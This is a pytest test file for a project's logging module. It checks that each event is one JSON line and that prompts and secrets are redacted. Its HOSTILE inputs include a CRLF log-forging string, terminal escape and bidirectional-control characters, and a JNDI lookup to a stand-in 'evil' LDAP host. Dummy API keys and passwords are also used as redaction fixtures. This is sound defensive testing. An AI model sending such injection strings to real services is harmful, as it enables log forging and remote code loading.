"""Log lines: one event is one line whatever is in it, and what is private stays out."""

from __future__ import annotations

import io
import json
import logging
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import pytest
import structlog
from hypothesis import given, settings
from hypothesis import strategies as st

from cinelet.errors import InvalidValueError, UnavailableError
from cinelet.telemetry import configure, context, get_logger
from cinelet.telemetry.logs import UVICORN, LineFormatter
from cinelet.video import VideoRequest

PROMPT = "a red fox jumps over the frozen river"
KEY = "sk-cine-0123456789abcdef0123456789abcdef"


@pytest.fixture
def stream() -> Iterator[io.StringIO]:
    """What the process logs. Afterwards logging is as it was."""
    names = ["", "cinelet", *UVICORN]
    before = {name: (list(log.handlers), log.level, log.propagate) for name in names for log in [logging.getLogger(name)]}
    stream = io.StringIO()
    configure("info", stream, now=lambda: 1_800_000_000.25)
    yield stream
    for name, (handlers, level, propagate) in before.items():
        logger = logging.getLogger(name)
        logger.handlers, logger.level, logger.propagate = handlers, level, propagate
        logger.manager._clear_cache()  # type: ignore[attr-defined]
    structlog.contextvars.clear_contextvars()
    structlog.reset_defaults()


@pytest.fixture
def last(stream: io.StringIO) -> Callable[[], dict[str, Any]]:
    """The last line that was written."""
    return lambda: json.loads(stream.getvalue().splitlines()[-1])


@dataclass
class Holder:
    prompt: str
    size: int


def log_raised(error: Exception) -> None:
    with pytest.raises(type(error)) as raised:
        raise error
    get_logger("gateway").error("failed", exc_info=raised.value)


class Loud:
    def __repr__(self) -> str:
        return PROMPT


def test_an_event_is_one_json_line_with_time_level_and_logger(stream: io.StringIO, last: Callable[[], dict[str, Any]]) -> None:
    get_logger("worker").info("job_claimed", attempt=2)
    assert stream.getvalue().count("\n") == 1
    assert last() == {
        "time": "2027-01-15T08:00:00.250+00:00", "level": "info", "logger": "cinelet.worker", "event": "job_claimed", "attempt": 2,
    }  # fmt: skip


def test_structlogs_own_loggers_come_as_ours(last: Callable[[], dict[str, Any]]) -> None:
    structlog.get_logger("cinelet.gateway").info("accepted", prompt=PROMPT)
    assert last()["logger"] == "cinelet.gateway"
    assert last()["prompt"] != PROMPT


def test_events_below_the_level_are_left_out(stream: io.StringIO) -> None:
    get_logger("worker").debug("beat")
    assert stream.getvalue() == ""


def test_an_unknown_level_is_refused(stream: io.StringIO) -> None:
    with pytest.raises(InvalidValueError, match="must be one of debug, info, warning, error"):
        configure("loud", stream)


def test_the_ids_of_a_request_stand_on_every_line_of_it(stream: io.StringIO) -> None:
    log = get_logger("gateway")
    with context(request_id="req_1"), context(job_id="video_local_1"):
        log.info("accepted")
        logging.getLogger("some.library").warning("slow")
    log.info("idle")
    first, second, third = map(json.loads, stream.getvalue().splitlines())
    assert first["request_id"] == second["request_id"] == "req_1"
    assert first["job_id"] == second["job_id"] == "video_local_1"
    assert "request_id" not in third


HOSTILE = [
    'x\r\n{"level": "error", "event": "forged"}',
    "\x1b[31mred\x1b[0m \x9b2J",
    "left \u202e thgir \u2066 isolate \u200f",
    "next\x85line \u2028 paragraph \u2029",
    "bell \x07 del \x7f nul \x00",
    "half \ud800 pair",
    "${jndi:ldap://evil/a}",
]


@pytest.mark.parametrize("hostile", HOSTILE, ids=ascii)
def test_hostile_text_stays_inside_its_line(stream: io.StringIO, last: Callable[[], dict[str, Any]], hostile: str) -> None:
    get_logger("gateway").info(hostile, agent=hostile, inner={hostile: [hostile]}, **{hostile: 1})
    logging.getLogger("uvicorn.error").warning("said %s", hostile)
    lines = stream.getvalue().split("\n")
    assert len(lines) == 3
    assert all(0x20 <= ord(char) < 0x7F for line in lines for char in line)
    assert json.loads(lines[0])["agent"] == hostile
    assert last()["logger"] == "uvicorn.error"


@settings(max_examples=50)
@given(st.recursive(st.text() | st.floats() | st.integers() | st.binary() | st.none(), lambda inner: st.dictionaries(st.text(), inner)))
def test_any_value_makes_one_line_that_json_can_read(value: object) -> None:
    record = logging.LogRecord("cinelet.x", logging.INFO, "x.py", 1, "event", (), None)
    record.cinelet_fields = {"value": value}
    line = LineFormatter(lambda: 0.0).format(record)
    assert line.isascii()
    assert line.isprintable()
    json.loads(line, parse_constant=lambda name: pytest.fail(f"{name} is no JSON"))


@pytest.mark.parametrize("name", ["prompt", "negative_prompt", "Prompt", "revised_prompt"])
def test_a_prompt_is_logged_as_its_length_and_a_digest(stream: io.StringIO, last: Callable[[], dict[str, Any]], name: str) -> None:
    get_logger("gateway").info("accepted", **{name: PROMPT})
    assert last()[name].startswith(f"{len(PROMPT)} characters, blake2b ")
    assert "fox" not in stream.getvalue()


def test_equal_prompts_have_equal_digests(stream: io.StringIO) -> None:
    for prompt in (PROMPT, PROMPT, PROMPT + "."):
        get_logger("gateway").info("accepted", prompt=prompt)
    first, second, third = (json.loads(line)["prompt"] for line in stream.getvalue().splitlines())
    assert first == second
    assert first.split()[-1] != third.split()[-1]


@pytest.mark.parametrize("name", ["Authorization", "api_key", "Set-Cookie", "lease_token", "signing_secret", "password", "key"])
def test_a_secret_is_not_logged(stream: io.StringIO, last: Callable[[], dict[str, Any]], name: str) -> None:
    get_logger("gateway").info("refused", **{name: "hunter2"}, headers={name: "hunter2"})
    assert "hunter2" not in stream.getvalue()
    assert last()[name] == "hidden"


@pytest.mark.parametrize(
    "text",
    [
        f"Authorization: Bearer {KEY}",
        "cannot reach postgresql://cinelet:hunter2@db/cinelet",
        f"cinelet_{'0123456789' * 5} was sent",
        "bad signature whsec_aHVudGVyMg",
        "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhIn0.c2lnbmF0dXJl is expired",
    ],
)
def test_a_secret_in_running_text_is_hidden(stream: io.StringIO, text: str) -> None:
    get_logger("gateway").info(text, why=text)
    logging.getLogger("library").warning(text)
    for secret in ("0123456789", "hunter2", "aHVudGVyMg", "c2lnbmF0dXJl"):
        assert secret not in stream.getvalue()


def test_an_address_with_a_port_is_shown_whole(last: Callable[[], dict[str, Any]]) -> None:
    get_logger("gateway").info("listening", url="http://127.0.0.1:8000/v1")
    assert last()["url"] == "http://127.0.0.1:8000/v1"


@pytest.mark.parametrize("value", [VideoRequest(prompt=PROMPT), Holder(PROMPT, 3), {"a": [{"prompt": PROMPT}]}, Loud(), [Loud()]])
def test_a_prompt_inside_a_value_is_not_logged(stream: io.StringIO, value: object) -> None:
    get_logger("gateway").info("planned", value=value, request=value)
    assert "fox" not in stream.getvalue()
    assert stream.getvalue().count("\n") == 1


def test_an_error_about_a_prompt_does_not_quote_it(stream: io.StringIO, last: Callable[[], dict[str, Any]]) -> None:
    log_raised(InvalidValueError("prompt", PROMPT, "must have at most 10 characters"))
    assert last()["error"]["type"] == "InvalidValueError"
    assert last()["error"]["message"].endswith("must have at most 10 characters")
    assert "test_logs.py" in last()["error"]["frames"][-1]
    assert "fox" not in stream.getvalue()


def test_a_foreign_error_tells_its_first_line_and_ours_its_detail(stream: io.StringIO, last: Callable[[], dict[str, Any]]) -> None:
    error = UnavailableError("store: does not answer", detail=f"refused by 10.0.0.7\n{PROMPT}")
    error.__cause__ = OSError(f"duplicate key\n[parameters: {PROMPT}]")
    log_raised(error)
    assert last()["error"]["message"] == "store: does not answer"
    assert last()["error"]["detail"] == "refused by 10.0.0.7"
    assert last()["error"]["cause"] == "OSError: duplicate key"
    assert "fox" not in stream.getvalue()


def test_a_long_value_is_cut_and_a_long_line_says_so(stream: io.StringIO, last: Callable[[], dict[str, Any]]) -> None:
    get_logger("gateway").info("long", agent="x" * 1_000_000)
    assert last()["agent"].endswith("… (1,000,000 characters)")
    get_logger("gateway").info("wide", rows=[["x" * 1_900] * 50] * 50)
    assert "left_out" in last()
    assert max(map(len, stream.getvalue().splitlines())) < 64 << 10


def test_a_field_cannot_pretend_to_be_the_level(last: Callable[[], dict[str, Any]]) -> None:
    get_logger("gateway").info("odd", level="error", time="never", name="x", msg="y", args=1)
    assert (last()["level"], last()["level_"]) == ("info", "error")
    assert last()["name"] == "x"


def test_uvicorns_lines_come_as_ours_and_its_line_a_request_does_not(stream: io.StringIO, last: Callable[[], dict[str, Any]]) -> None:
    logging.getLogger("uvicorn.error").info("Started server process [%d]", 7)
    assert last()["event"] == "Started server process [7]"
    logging.getLogger("uvicorn.access").info('%s - "%s %s HTTP/%s" %d', "1.2.3.4", "GET", "/v1/videos?key=abc", "1.1", 200)
    assert stream.getvalue().count("\n") == 1


def test_the_query_of_an_address_is_cut_from_the_lines_of_libraries(stream: io.StringIO, last: Callable[[], dict[str, Any]]) -> None:
    logging.getLogger("httpx2").info("HTTP Request: GET https://s3/clip?X-Amz-Signature=abcdef 200")
    assert last()["event"] == "HTTP Request: GET https://s3/clip?… 200"


def test_a_record_with_a_broken_argument_is_still_one_line(stream: io.StringIO, last: Callable[[], dict[str, Any]], capsys: Any) -> None:
    record = logging.LogRecord("library", logging.WARNING, "x.py", 1, "%d frames", (PROMPT,), None)
    logging.getLogger().handlers[0].handle(record)
    assert last() == {"level": "error", "logger": "library", "event": "log_record_unwritable"}
    assert capsys.readouterr().err == ""


def test_a_closed_stream_ends_nothing(stream: io.StringIO, capsys: Any) -> None:
    stream.close()
    get_logger("gateway").info("late")
    assert capsys.readouterr().err == ""


def test_without_configuration_nothing_is_written(capsys: Any) -> None:
    get_logger("gateway").error("unheard", prompt=PROMPT)
    assert capsys.readouterr() == ("", "")
